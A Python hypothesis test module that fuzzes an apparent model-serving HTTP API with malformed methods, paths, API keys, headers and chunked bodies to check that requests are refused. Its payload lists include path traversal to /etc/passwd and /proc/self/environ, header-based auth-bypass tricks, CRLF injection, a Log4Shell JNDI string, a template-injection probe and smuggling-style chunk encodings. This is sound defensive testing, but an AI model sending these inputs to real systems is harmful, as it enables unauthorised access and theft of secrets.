"""What is wrong below the body: methods, paths, headers, lengths, chunks. Drawn by hypothesis; `listed_wire.py` is fixed."""

from __future__ import annotations

import string

from hypothesis import strategies as st

from tests.hostile.case import KEY, Hostile, encoded, head, posted
from tests.hostile.fields import CHAT, COMPLETION, VALID

KEYLESS = ("/live", "/ready", "/health", "/version", "/docs", "/console/app.js")
PROTECTED = (
    "/v1/models", "/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/tokenize", "/detokenize",
    "/v1/rerank", "/v1/score", "/tokenizer_info", "/v1/executors", "/openapi.json", "/metrics", "/v1/steps",
)  # fmt: skip
ADMIN = (
    "/v1/load_lora_adapter", "/v1/unload_lora_adapter", "/v1/kill_executor", "/admin", "/shutdown", "/sleep", "/wake_up",
    "/reset_prefix_cache",
    "/server_info", "/update_weights", "/start_profile", "/flush_cache", "/debug", "/docs/x", "/redoc", "/v1/internal/x",
    "/collective_rpc", "/console/../v1/models", "/.env", "/proc/self/environ", "/static/..%2f..%2fetc/passwd",
)  # fmt: skip
_TOKEN = "!#$%&'*+-.^_`|~" + string.digits + string.ascii_letters
NO_KEY = frozenset({400, 401})
_HEADER_TEXT = st.text(st.characters(min_codepoint=33, max_codepoint=126), max_size=20)


@st.composite
def wrong_method(draw: st.DrawFn) -> Hostile:
    """A method that the path does not know, or that nobody knows."""
    known = {"GET", "HEAD"}
    path = draw(st.sampled_from([*KEYLESS, *PROTECTED]))
    posts = path in VALID
    allowed = {"POST"} if posts else known
    methods = [
        "GET",
        "POST",
        "PUT",
        "DELETE",
        "PATCH",
        "OPTIONS",
        "TRACE",
        "PROPFIND",
        "SEARCH",
        "MKCOL",
        "PURGE",
        "LINK",
    ]
    odd = st.text(_TOKEN, min_size=1, max_size=12).filter(
        lambda name: name not in ("HEAD", "CONNECT", *methods)
    )
    method = draw(st.sampled_from([one for one in methods if one not in allowed]) | odd)
    return Hostile("wrong method", (head(method, path),), method, alone=True, bare=True)


@st.composite
def wrong_path(draw: st.DrawFn) -> Hostile:
    """A path that is none, with a key or without; a protected one without a key, in some spelling."""
    method = draw(st.sampled_from(["GET", "POST", "HEAD"]))
    if draw(st.booleans()):
        text = draw(st.text(string.ascii_letters + string.digits + "/._-~%2eé\x01;?=&+", max_size=40))
        target = "/nowhere/" + text
        key = draw(st.sampled_from([KEY, None]))
        found = frozenset(range(400, 500)) if key else NO_KEY
        return Hostile(
            "no such path", (head(method, target, key=key),), method, statuses=found, alone=True, bare=True
        )
    path = draw(st.sampled_from([*PROTECTED, *ADMIN]))
    return Hostile(
        "a path without a key", (head(method, draw(_spelled(path)), key=None),), method, statuses=NO_KEY, alone=True,
        bare=True,
    )  # fmt: skip


def _spelled(path: str) -> st.SearchStrategy[str]:
    """The path as somebody writes it who hopes that the check reads something else than the router."""
    open_ = st.sampled_from(KEYLESS)
    encode_one = st.integers(1, max(1, len(path) - 1)).map(
        lambda place: (
            path[:place] + f"%{ord(path[place]):02x}" + path[place + 1 :] if place < len(path) else path
        )
    )
    return st.one_of(
        st.just(path), encode_one,
        open_.map(lambda one: f"{one}/..{path}"), open_.map(lambda one: f"{one}%2f..{path}"),
        open_.map(lambda one: f"{one};{path}"), open_.map(lambda one: f"{path}?{one}"), open_.map(lambda one: f"{path}#{one}"),
        open_.map(lambda one: f"http://x{path}?{one}"), open_.map(lambda one: f"http://{one[1:]}{path}"),
        open_.map(lambda one: f"{one}%00{path}"), open_.map(lambda one: f"{one}\\..{path.replace('/', chr(92))}"),
        st.sampled_from([f"/{path}", f"//{path}", f"/.{path}", f"/%2e{path}", path.upper() + "/x", f"{path}/", f"{path}%20",
                         f"{path}/.", f"{path}%00", f"{path}%0a", f"/x/..{path}"]),
    )  # fmt: skip


@st.composite
def wrong_key(draw: st.DrawFn) -> Hostile:
    """A header that is nearly a key, and others by which one might hope to need none."""
    near = st.sampled_from(
        [
            KEY[:-1],
            KEY + "x",
            KEY.upper(),
            f'"{KEY}"',
            f"{KEY},{KEY}",
            f"{KEY} {KEY}",
            "",
            "null",
            "*",
            "\xff" * 8,
        ]
    )
    text = st.text(st.characters(min_codepoint=33, max_codepoint=126), max_size=40).filter(
        lambda one: one != KEY
    )
    key = draw(near | text)
    scheme = draw(st.sampled_from(["Bearer", "bearer", "Basic", "Token", "Digest"]))
    games = draw(
        st.lists(
            st.sampled_from(
                [("X-Forwarded-For", "127.0.0.1"), ("X-Original-URL", "/live"), ("X-Rewrite-URL", "/health"),
                 ("Forwarded", "for=127.0.0.1;host=localhost"), ("X-HTTP-Method-Override", "GET"), ("X-Api-Key", KEY),
                 ("Host", "localhost/live?"), ("X-Forwarded-Host", "localhost"), ("Cookie", f"key={KEY}"),
                 ("Authorization", f"Bearer {KEY}"), ("X-Forwarded-Prefix", "/live")]
            ),
            max_size=3,
        )
    )  # fmt: skip
    headers = [("Authorization", f"{scheme} {key}"), *games]
    path = draw(st.sampled_from([CHAT, COMPLETION]))
    pieces = posted(path, encoded(VALID[path]), headers, key=None)
    return Hostile("no valid key", pieces, statuses=NO_KEY, alone=True, bare=True)


@st.composite
def odd_header(draw: st.DrawFn) -> Hostile:
    """A request whose body is refused, with headers that must neither help nor hurt nor come back."""
    names = ["X-Request-Id", "traceparent", "OpenAI-Organization", "Accept", "Accept-Encoding", "Content-Type", "User-Agent",
             "Content-Language", "Origin", "Cookie", "Range", "If-None-Match", "Priority", "Via", "X-" + "y" * 200]  # fmt: skip
    values = st.one_of(
        _HEADER_TEXT, st.sampled_from(["a" * 8000, "\xff\xfe", "\x01\x02", "a\tb", "%0d%0aX-Evil: 1", "\x7f",
        "${jndi:ldap://x/a}",
                                       "{{7*7}}", "req_" + "0" * 24, "application/x-www-form-urlencoded", "text/html", ""])
    )  # fmt: skip
    headers = draw(st.lists(st.tuples(st.sampled_from(names), values), min_size=1, max_size=6))
    path = draw(st.sampled_from(sorted(VALID)))
    return Hostile("odd headers", posted(path, b'{"n": ', headers), alone=True, bare=True)


@st.composite
def wrong_chunks(draw: st.DrawFn) -> Hostile:
    """A chunked body that breaks the rules of chunks, or keeps them and is refused all the same."""
    headers = [("Content-Type", "application/json"), ("Transfer-Encoding", "chunked")]
    start = head("POST", draw(st.sampled_from(sorted(VALID))), headers)
    good = b'5\r\n{"n":\r\n'
    bad = draw(
        st.sampled_from(
            [b"zz\r\n", b"-5\r\n12345\r\n", b"0x5\r\nabcde\r\n", b"FFFFFFFFFFFFFFFFF\r\n", b"5\r\nabcdefgh\r\n",
            b"5 5\r\nabcde\r\n",
             b"\r\n", b"5\nabcde\n", b"+5\r\nabcde\r\n", b"99999999999999999999\r\n", b"5\r\nabcdeX\r\n",
             b"5;\x00=1\r\nabcde\r\n",
             b"0\r\nbad trailer\r\n\r\n", b"0\r\n\r\n", b"1;a=b\r\n{\r\n0\r\nX-Trailer: y\r\n\r\n"]
        )
        | st.binary(min_size=1, max_size=8).map(lambda one: one + b"\r\n\r\n").filter(lambda one: not one[:1].isalnum())
    )  # fmt: skip
    pieces = (start, *([good] if draw(st.booleans()) else []), bad)
    return Hostile("bad chunks", pieces, alone=True, bare=True)
